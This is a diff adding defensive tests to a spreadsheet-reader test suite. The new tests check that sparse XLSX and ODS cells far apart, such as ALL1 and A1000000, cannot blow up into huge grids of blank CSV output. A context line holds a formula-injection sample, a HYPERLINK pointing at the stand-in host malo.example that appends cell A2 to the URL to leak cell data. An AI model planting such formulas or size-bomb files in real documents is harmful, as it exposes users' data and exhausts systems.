@@ -167,6 +167,40 @@ describe('hostile spreadsheets', () => {
     expect(sheet).toMatchObject({ rows: 1, columns: 1, truncated: true, csv: '1\r\n' });
   });
 
+  it('two cells far apart (ALL1 and A1000000) make a few lines, not a million lines of commas', async () => {
+    // 199,800 lines of 1,000 fields (191 MB) from a file of about 1 KB before (issue #16).
+    const file = zip(
+      xlsxParts(
+        '<row r="1"><c r="ALL1" t="inlineStr"><is><t>Derecha</t></is></c></row>' +
+          '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>Abajo</t></is></c></row>',
+      ),
+    );
+    expect(file.byteLength).toBeLessThan(2_000);
+    // The same cells in an ODS: the blank rows between them as one repeated row.
+    const spreadsheet = odsContent(
+      '<table:table-row><table:table-cell table:number-columns-repeated="999"/><table:table-cell office:value-type="string"><text:p>Derecha</text:p></table:table-cell></table:table-row>' +
+        '<table:table-row table:number-rows-repeated="999998"><table:table-cell table:number-columns-repeated="1000"/></table:table-row>' +
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>Abajo</text:p></table:table-cell></table:table-row>',
+    );
+    const blankLines = `${','.repeat(999)}\r\n`.repeat(DEFAULT_LIMITS.maxBlankRows);
+    for (const [sheet] of [await readSheets(file), await readSheets(spreadsheet)]) {
+      // The 999,998 blank rows between the two values are shortened to a few.
+      expect(sheet).toMatchObject({ rows: 2 + DEFAULT_LIMITS.maxBlankRows, columns: 1_000, truncated: false });
+      expect(sheet!.csv).toBe(`${','.repeat(999)}Derecha\r\n${blankLines}Abajo${','.repeat(999)}\r\n`);
+      expect(sheet!.csv.length).toBeLessThan(10_000);
+    }
+  });
+
+  it('scattered cells cannot spread into a grid of blanks: the grid written is bounded by the cells with content', async () => {
+    // ALL1, then one cell in column A on each of the next 2,000 rows: 2 MB of commas before.
+    const below = Array.from({ length: 2_000 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>${i}</v></c></row>`).join('');
+    const [sheet] = await readSheets(zip(xlsxParts(`<row r="1"><c r="ALL1"><v>1</v></c></row>${below}`)));
+    expect(sheet).toMatchObject({ columns: 1_000, truncated: true });
+    expect(sheet!.rows * sheet!.columns).toBeLessThanOrEqual(DEFAULT_LIMITS.minGridCells);
+    expect(sheet!.csv.length).toBeLessThan(25_000);
+    expect(sheet!.csv).toMatch(/^,{999}1\r\n0,{999}\r\n1,{999}\r\n/);
+  });
+
   it('a string cell that looks like a formula stays text; formulas are never evaluated', async () => {
     const injection = '=HYPERLINK("https://malo.example/?q="&A2,"Haga clic")';
     const escaped = injection.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
